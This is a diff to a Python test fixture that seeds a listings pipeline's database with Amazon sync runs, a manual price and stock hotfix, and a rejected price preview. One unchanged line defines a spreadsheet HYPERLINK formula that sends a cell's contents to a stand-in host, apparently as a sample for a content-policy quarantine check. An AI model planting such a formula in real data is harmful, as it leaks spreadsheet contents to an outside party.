@@ -7,6 +7,11 @@ Amazon's 90220), the Listings API rejected a hotfix twice (``BAG-02``, 4000006: 
 still in progress (``F-PROG``), one is queued and one went FATAL. SP-API calls over the last hours
 include throttles and a 500. Times are relative to ``now``, so "recent" means what it says.
 
+After the feed, ``alice`` hotfixed ``HP-01``'s price and stock through ``listings_hotfix`` (Amazon
+accepted the patch: the listing stays in sync) and then previewed a lower price (Amazon would reject
+it; it stored nothing); the offers sync's price patch for ``HP-03`` is on its way (``submitted``: not
+in sync, though the payload Amazon accepted is still the catalog's). See :data:`HOTFIX`.
+
 Runs (``run_summaries``): ``catalog_feed_sync`` ran ``scheduled__0`` the day before (US, DE) and
 ``scheduled__1`` (US, DE, UK); ``offers_inventory_sync`` ran ``scheduled__o1`` and ``scheduled__o2``
 (US) in the last hours. The quarantine holds rows of three of them: see :data:`RUN_QUARANTINE`.
@@ -20,6 +25,7 @@ from typing import Any
 
 from sqlalchemy import Engine, insert, update
 
+from listings_pipeline.to_amazon import offer_state
 from listings_pipeline.warehouse import lifecycle
 from listings_pipeline.warehouse.db import session_scope
 from listings_pipeline.warehouse.models import (
@@ -41,11 +47,15 @@ EU_SELLER = "A3EUSELLER"
 US = "ATVPDKIKX0DER"
 DE = "A1PA6795UKMFR9"
 UK = "A1F83G8C2ARO7P"
-HASH_A, HASH_B = "a" * 64, "b" * 64
+HASH_A, HASH_B, HASH_C = "a" * 64, "b" * 64, "c" * 64
 ACCEPTED_SKUS = ["HP-01", "HP-02", "HP-03", "HP-04", "HP-05", "TT-01-M-BLK", "SH-00"]
 CATALOG_DAG, OFFERS_DAG = "catalog_feed_sync", "offers_inventory_sync"
 US_FILE, OFFERS_FILE = "/data/catalog/acme-us.csv", "/data/offers/acme-us.csv"
 FORMULA = '=HYPERLINK("http://x.example/?"&A1,"click")'
+HOTFIX_DAG = "listings_hotfix"
+#: alice's hotfix run: its id has the ``:`` and ``+`` a link must escape.
+HOTFIX = {"actor": "alice", "dag_id": HOTFIX_DAG, "run_id": "manual__2026-12-02T09:00:00+00:00"}
+PREVIEW_CODE = "99022"
 #: run id -> (SKU or None, rule) of the US rows each run quarantined, in insertion order.
 RUN_QUARANTINE = {
     "scheduled__0": [("SH-02", "content_policy.formula_prefixes"), ("HP-03", "specs.number")],
@@ -167,6 +177,44 @@ def _run_summaries(s: Any, now: datetime, t: Any) -> None:
             _summary(OFFERS_DAG, "scheduled__o2", SELLER, US, now - timedelta(hours=2), 3,
                      extracted=7, quarantined=1, quarantined_skus=1, planned=1, unchanged=5, submitted=1, accepted=1),
         ],
+    )  # fmt: skip
+
+
+def _hotfix_and_preview(s: Any, t: Any) -> None:
+    """``HP-01``: the offers sync's price and stock, then alice's hotfix (price 19.99 -> 17.99,
+    stock 12 -> 5, recorded by the writer the per-SKU path uses) and her preview; ``HP-03``: a
+    price patch on its way."""
+    offer_state.write(
+        s, SELLER, US, "HP-01", {"offer": {"currency": "USD", "our_price": "19.99", "sale_price": "15.99"},
+                                 "stock": {"quantity": 12}},
+    )  # fmt: skip
+    lifecycle.transition(s, SELLER, US, "HP-01", "ready", "listings_api:plan", at=t(120), **HOTFIX)
+    lifecycle.transition(
+        s, SELLER, US, "HP-01", "submitted", "listings_api:submit", at=t(121), submitted_hash=HASH_C, **HOTFIX
+    )
+    changed = offer_state.write(
+        s, SELLER, US, "HP-01", {"offer": {"our_price": "17.99"}, "stock": {"quantity": 5}}
+    )
+    lifecycle.transition(
+        s, SELLER, US, "HP-01", "accepted", "listings_api:sub-hp-01", at=t(122), patch=True,
+        changes=dict(changed), **HOTFIX,
+    )  # fmt: skip
+    s.execute(
+        insert(ListingIssue),
+        [
+            _issue(
+                SELLER, US, "HP-01", PREVIEW_CODE, "ERROR", t(130), source="listings_api", preview=True,
+                run_id="manual__2026-12-02T09:30:00+00:00",
+                message="The price 2.00 is below the minimum price 5.00 set for this SKU.",
+            )
+        ],
+    )  # fmt: skip
+    lifecycle.transition(
+        s, SELLER, US, "HP-03", "ready", "plan", "scheduled__2", at=t(140), dag_id=CATALOG_DAG
+    )
+    lifecycle.transition(
+        s, SELLER, US, "HP-03", "submitted", "feed:F-PROG", "scheduled__2", at=t(141), submitted_hash=HASH_C,
+        dag_id=CATALOG_DAG,
     )  # fmt: skip
 
 
@@ -414,6 +462,8 @@ def fill(engine: Engine, now: datetime) -> Facts:
         lifecycle.transition(
             s, SELLER, US, "BAG-02", "invalid", "listings_api:sub-1", "manual__hotfix", at=t(102)
         )
+
+        _hotfix_and_preview(s, t)
 
         # the EU seller
         lifecycle.transition(s, EU_SELLER, UK, "EU-01", "ready", "validation", at=t(0), payload_hash=HASH_A)
